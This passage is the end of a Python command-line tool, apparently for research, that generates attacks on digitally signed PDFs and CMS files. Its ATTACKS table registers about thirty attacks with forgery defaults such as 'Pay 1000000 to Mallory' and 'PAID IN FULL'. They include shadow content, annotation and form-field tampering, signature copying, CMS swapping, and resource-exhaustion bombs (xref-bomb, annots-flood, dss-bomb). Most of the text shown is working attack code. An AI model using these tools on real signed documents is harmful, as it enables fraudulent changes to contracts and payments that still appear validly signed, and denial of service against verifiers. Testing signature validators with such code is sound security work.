        objs[pdf.root()] = dict_set(pdf.catalog(), b'DSS', b'%d 0 R' % dss_num)
    objs[dss_num] = dss
    return append_update(pdf, objs)


def attack_cms_crls(p7s, a):
    """For a CMS (a .p7s, not a PDF): adds each --crl to SignedData.crls ([1] IMPLICIT, outside
    what the signer signed), as a CAdES B-LT extension would."""
    cms = p7s.data
    _, s, e = der_tlv(cms, 0)
    oid, wrapped = der_children(cms, s, e)
    _, s, e = der_tlv(wrapped, 0)
    _, s, e = der_tlv(wrapped, s)
    parts = der_children(wrapped, s, e)
    crls = b''.join(der_file(f) for f in a.crl)
    at = next((i for i, x in enumerate(parts) if x[0] == 0xA1), None)
    if at is not None:
        _, vs, ve = der_tlv(parts[at], 0)
        parts[at] = der(0xA1, parts[at][vs:ve] + crls)
    else:
        parts.insert(len(parts) - 1, der(0xA1, crls))  # just before signerInfos
    return Pdf(der(0x30, oid + der(0xA0, der(0x30, b''.join(parts)))))


def attack_cms(pdf, a):
    """Writes the DER CMS of signature --sig (not a PDF: for openssl cms -verify)."""
    return Pdf(pdf_cms(pdf, a.sig))


def attack_signed_bytes(pdf, a):
    """Writes the bytes signature --sig covers (its two ByteRange ranges, not a PDF)."""
    return Pdf(signed_bytes(pdf, a.sig))


def attack_revision(pdf, a):
    """Writes the revision signature --sig covers (the bytes up to the end of its ByteRange)."""
    _, _, c, d = pdf.byteranges()[a.sig]
    return Pdf(pdf.data[:c + d])


ATTACKS = {
    'cms-swap': (attack_cms_swap, [('--from', dict(dest='source')), ('--key',), ('--cert',), ('--certfile',),
                                   ('--content',)]),
    'revision': (attack_revision, [('--sig', dict(type=int, default=-1))]),
    'dss-cover': (attack_dss_cover, [('--text', dict(default='Pay 1000000 to Mallory'))]),
    'typed-content': (attack_typed_content, [('--type', dict(default='ObjStm', choices=['ObjStm', 'XRef'])),
                                             ('--text', dict(default='Pay 1000000 to Mallory'))]),
    'annot': (attack_annot, [('--subtype', dict(default='FreeText', choices=['FreeText', 'Link', 'Text'])),
                             ('--parent', dict(action='store_true')), ('--plain', dict(action='store_true')), ('--text', dict(default='PAID IN FULL')),
                             ('--uri', dict(default='http://127.0.0.1/'))]),
    'sig-copy': (attack_sig_copy, [('--m', dict(default='D:20200101000000Z'))]),
    'cms': (attack_cms, [('--sig', dict(type=int, default=-1))]),
    'dss-add': (attack_dss_add, [('--crl', dict(action='append')), ('--ocsp', dict(action='append'))]),
    'cms-crls': (attack_cms_crls, [('--crl', dict(action='append', required=True))]),
    'signed-bytes': (attack_signed_bytes, [('--sig', dict(type=int, default=-1))]),
    'field-dup': (attack_field_dup, []),
    'text-field': (attack_text_field, [('--name', dict(default='Amount')), ('--rect', dict(default='[72 500 372 560]'))]),
    'fill-text': (attack_fill_text, [('--name', dict(default='Amount')), ('--text', dict(default='1000 EUR')),
                                     ('--key',)]),
    'shadow-xobject': (attack_shadow_xobject, [('--text', dict(default='Pay 1000000 to Mallory')),
                                               ('--disguise', dict(default='none', choices=['none', 'metadata', 'icc', 'font']))]),
    'shadow-orphan': (attack_shadow_orphan, [('--text', dict(default='Pay 1000000 to Mallory'))]),
    'shadow-layer': (attack_shadow_layer, [('--text', dict(default='Pay 1000000 to Mallory'))]),
    'remove-annot': (attack_remove_annot, [('--subtype', dict(default='FreeText'))]),
    'content': (attack_content, [('--text', dict(default='Pay 1000000 to Mallory'))]),
    'empty-field': (attack_empty_field, [('--name', dict(default='Approval')), ('--rect', dict(default='[60 600 360 660]')),
                                         ('--text',)]),
    'nested-field': (attack_nested_field, [('--parent', dict(default='Parties')), ('--name', dict(default='Witness'))]),
    'fill-field': (attack_fill_field, [('--name', dict(default='Approval')), ('--text', dict(default='APPROVED'))]),
    'hybrid-free': (attack_hybrid_free, [('--text', dict(default='Pay 1000000 to Mallory'))]),
    'orphan': (attack_orphan, [('--text', dict(default='Pay 1000000 to Mallory')), ('--cert', dict(required=True))]),
    'xref-bomb': (attack_xref_bomb, [('--updates', dict(type=int, default=1)),
                                     ('--entries', dict(type=int, default=10_000_000))]),
    'annots-flood': (attack_annots_flood, [('--count', dict(type=int, default=200_000))]),
    'dss-bomb': (attack_dss_bomb, [('--mb', dict(type=int, default=200)), ('--refs', dict(type=int, default=30))]),
    'sign-field': (attack_sign_field, [('--key', dict(required=True)), ('--cert', dict(required=True)), ('--certfile',),
                                       ('--name', dict(default='Approval')), ('--size', dict(type=int, default=8192))]),
    'sign': (attack_sign, [('--key', dict(required=True)), ('--cert', dict(required=True)), ('--certfile',),
                           ('--cades', dict(action='store_true')), ('--dr', dict(action='store_true')),
                           ('--docmdp', dict(type=int)),
                           ('--name', dict(default='Independent')), ('--size', dict(type=int, default=8192))]),
}


def main():
    global XREF_STREAM
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest='attack', required=True)
    for name, (fn, opts) in ATTACKS.items():
        doc = ' '.join(fn.__doc__.split())
        sp = sub.add_parser(name, help=doc.split('. ')[0], description=doc)
        sp.add_argument('input')
        sp.add_argument('output')
        sp.add_argument('--xref-stream', action='store_true', help='write updates with an xref stream')
        for opt in opts:
            sp.add_argument(opt[0], **(opt[1] if len(opt) > 1 else {}))
    a = p.parse_args()
    XREF_STREAM = a.xref_stream
    Path(a.output).write_bytes(ATTACKS[a.attack][0](Pdf(Path(a.input).read_bytes()), a).data)


if __name__ == '__main__':
    main()
